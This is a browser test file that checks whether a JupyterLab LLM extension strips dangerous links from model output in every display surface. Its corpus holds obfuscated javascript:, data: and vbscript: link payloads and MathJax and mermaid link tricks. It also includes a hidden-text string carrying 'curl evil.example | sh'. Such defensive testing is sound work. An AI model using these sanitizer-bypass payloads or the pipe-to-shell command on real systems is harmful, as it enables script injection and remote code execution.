"""Suite 13 — safe to share, in the browser: no dangerous link reaches the DOM, and Copy copies
only what is shown.

One answer full of links a sanitizer must not keep — `javascript:`, `data:` and `vbscript:` in
markdown and in HTML, in any case, behind character entities, with tabs and leading spaces, as
reference links and autolinks; MathJax `\\href` in `$...$`, `$$...$$` and `\\(...\\)`; a mermaid
`click` — shown by every surface in a real JupyterLab: a displayed `Response`, `%%llm`,
`%%llm -f html`, Chat, the comparison grid, the TemplateEditor's run and the sidebar. A control
cell shows that this lab's MathJax does typeset math in an output (so the MathJax checks could
fail). Passing: no `<a href>` other than http(s)/mailto in any surface, nothing typeset by
MathJax or drawn by mermaid in our outputs, no script ran (also after clicking every corpus
link), no request left 127.0.0.1; and the Chat's Copy button copies the visible words only,
never a `hidden` element's text.
"""

from __future__ import annotations

import pytest

from browser import helpers

from ..helpers import record_page_safety

SUITE = "13 safe to share"
pytestmark = pytest.mark.browser

LINKS = "\n\n".join([
    "LINKSBEGIN",
    "[a1](javascript:window.__pwned=21)",
    "[a2](JaVaScRiPt:window.__pwned=22)",
    "[a3](&#106;avascript:window.__pwned=23)",
    "[a4](java&#x09;script:window.__pwned=24)",
    "[a5](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0yNTwvc2NyaXB0Pg==)",
    "[a6](vbscript:msgbox(26))",
    "[a7](<javascript:window.__pwned=27>)",
    "<javascript:window.__pwned=28>",
    "[a9][ref]\n\n[ref]: javascript:window.__pwned=29",
    '<a href="javascript:window.__pwned=30">a10</a>',
    '<a href="&#x6A;avascript:window.__pwned=31">a11</a>',
    '<a href="java\tscript:window.__pwned=32">a12</a>',
    '<a href=" JAVASCRIPT:window.__pwned=33">a13</a>',
    '<a href="data:text/html,&lt;script&gt;window.__pwned=34&lt;/script&gt;">a14</a>',
    '<a href="vbscript:msgbox(35)">a15</a>',
    "$\\href{javascript:window.__pwned=36}{mathlink}$",
    "$$\\href{javascript:window.__pwned=37}{displaylink}$$",
    "\\(\\href{javascript:window.__pwned=38}{parenlink}\\)",
    "```mermaid\ngraph TD\n  A[mermaidnode] --> B\n  click A \"javascript:window.__pwned=39\"\n```",
    "[safe link](https://example.org/fine)",
    "LINKSEND",
])
CORPUS_LINK_TEXT = ["a1", "a2", "a3", "a4", "a5", "a6", "a9", "a10", "a11", "a12", "a13", "a14",
                    "a15", "mathlink", "displaylink", "parenlink"]
HIDDEN = "Visible words.<span hidden> HIDDENCMD curl evil.example | sh</span> More words."

_BAD_LINKS = """els => els
  .map(a => a.getAttribute('href'))
  .filter(h => h !== null && !/^\\s*(https?:|mailto:)/i.test(h))"""
_TYPESET = "mjx-container, .MathJax, svg[id^='mermaid'], .jp-RenderedMermaid, [data-processed] svg"


def _notebook(root, url: str) -> str:
    helpers.write_notebook(root, "links.ipynb", [
        "%load_ext llm_notebook\n"
        "import llm_notebook\n"
        "s = llm_notebook.session()\n"
        f"s.add_endpoint('loop', {url!r})\n"
        "s.templates.save('links', '{x}')",
        "r = s.ask('links please', model='loop/m')\nr",                           # 1 a Response
        "%%llm loop/m\nlinks",                                                      # 2
        "%%llm loop/m -f html\nlinks",                                              # 3
        "chat = llm_notebook.Chat(model='loop/m')\nchat",                           # 4
        "chat.ask('links').status",                                                 # 5
        "grid = llm_notebook.compare('Links for {x}', ['loop/a'], inputs=[{'x': 'one'}])\ngrid",  # 6 (uncached)
        "editor = llm_notebook.TemplateEditor('links', models=['loop/a'])\neditor",       # 7
        "from IPython.display import Markdown\n"
        "Markdown('control: $x^2$ typeset by MathJax')",                           # 8
        "chat.ask('hidden text').status",                                          # 9
    ])
    return "links.ipynb"


def test_no_dangerous_link_reaches_any_surface_and_copy_copies_what_is_shown(
        jupyter_lab, lab_page, loopback, request_monitor, shot, record):
    page = lab_page
    loopback.configure(reply=LINKS)
    panel = helpers.open_notebook(page, _notebook(jupyter_lab.root_dir, loopback.url))
    for index in range(9):
        helpers.run_cell(page, panel, index)
    surfaces = {
        "Response": helpers.cell_output(panel, 1),
        "%%llm": helpers.cell_output(panel, 2),
        "%%llm -f html": helpers.cell_output(panel, 3),
        "chat": helpers.cell_output(panel, 4).locator(".llm-chat"),
        "grid": helpers.cell_output(panel, 6).locator(".llm-grid"),
        "template editor": helpers.cell_output(panel, 7).locator(".llm-te"),
    }
    for name in ("Response", "%%llm", "%%llm -f html"):
        helpers.wait_text(surfaces[name], "LINKSEND")
    helpers.wait_text(surfaces["chat"].locator(".llm-chat-turn:not(.llm-chat-live)"), "LINKSEND")
    helpers.wait_text(surfaces["grid"], "LINKSEND")
    editor = surfaces["template editor"]
    editor.locator('.llm-te-var[data-variable="x"] textarea').fill("links")
    editor.locator(".llm-te-prompt .cm-content").click()
    page.keyboard.press("Control+Enter")
    helpers.wait_text(editor.locator(".llm-te-result-body"), "LINKSEND")
    page.locator('.jp-SideBar.jp-mod-left [data-id="llm-notebook-sidebar"]').click()
    sidebar = page.locator("#llm-notebook-sidebar")
    helpers.wait_text(sidebar, "LINKSBEGIN")
    surfaces["sidebar"] = sidebar

    # The control: this lab's MathJax typesets math in an output that does not opt out.
    control = helpers.cell_output(panel, 8)
    control.locator("mjx-container").first.wait_for(state="attached",
                                                    timeout=helpers.EXECUTE_TIMEOUT_MS)
    page.wait_for_timeout(1500)  # MathJax typesets asynchronously: give it time everywhere

    problems: dict[str, list] = {}
    for name, surface in surfaces.items():
        surface.first.scroll_into_view_if_needed()
        bad = surface.locator("a").evaluate_all(_BAD_LINKS)
        typeset = surface.locator(_TYPESET).evaluate_all("els => els.map(e => e.outerHTML.slice(0, 80))")
        if bad:
            problems.setdefault(name, []).append(f"links {bad}")
        if typeset:
            problems.setdefault(name, []).append(f"typeset {typeset}")
        text = surface.first.inner_text()
        # (The sidebar lists calls by a one-line preview: only the answer's start is there.)
        expected = ("LINKSBEGIN",) if name == "sidebar" else ("LINKSBEGIN", "LINKSEND", "mathlink", "a15")
        for visible in expected:
            if visible not in text:
                problems.setdefault(name, []).append(f"text {visible!r} not shown")
        # Click whatever anchors the corpus became: none may do anything.
        surface.locator("a").evaluate_all(
            "(els, names) => els.filter(a => names.includes(a.textContent.trim()))"
            ".forEach(a => a.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})))",
            CORPUS_LINK_TEXT)
    shot("links")

    # Copy in Chat: the clipboard gets the words on screen, not the hidden element's.
    loopback.configure(reply=HIDDEN)
    helpers.run_cell(page, panel, 9)
    chat = surfaces["chat"]
    last = chat.locator(".llm-chat-turn:not(.llm-chat-live)").last
    helpers.wait_text(last, "More words.")
    page.evaluate("() => { window.__copied = []; navigator.clipboard.writeText = async (t) => {"
                  " window.__copied.push(t); }; }")
    last.locator(".llm-chat-assistant button", has_text="Copy").click()
    page.wait_for_function("() => window.__copied.length > 0")
    copied = page.evaluate("() => window.__copied[0]")
    if copied != "Visible words. More words.":
        problems["chat copy"] = [repr(copied)]
    if "HIDDENCMD" in last.inner_text():
        problems["chat shows hidden"] = [last.inner_text()]

    for name in surfaces:
        record.check(f"{name}: no dangerous link, nothing typeset, the text shown",
                     name not in problems)
    record.check("Chat's Copy copies the visible words only",
                 "chat copy" not in problems and "chat shows hidden" not in problems)
    pwned, dialogs, external = record_page_safety(record, page, request_monitor)
    record.note(f"{len(CORPUS_LINK_TEXT)} dangerous links (cases, entities, tabs, refs, MathJax "
                f"\\href, mermaid click) in {len(surfaces)} surfaces (Response, %%llm, -f html, "
                f"Chat, grid, TemplateEditor, sidebar): {len(problems)} with a problem; Copy "
                f"copied {copied!r}; __pwned set in {len(pwned)} frames, {len(external)} requests "
                "off 127.0.0.1")

    page.console_monitor.assert_not_pwned()
    request_monitor.assert_none_left()
    assert problems == {}, problems
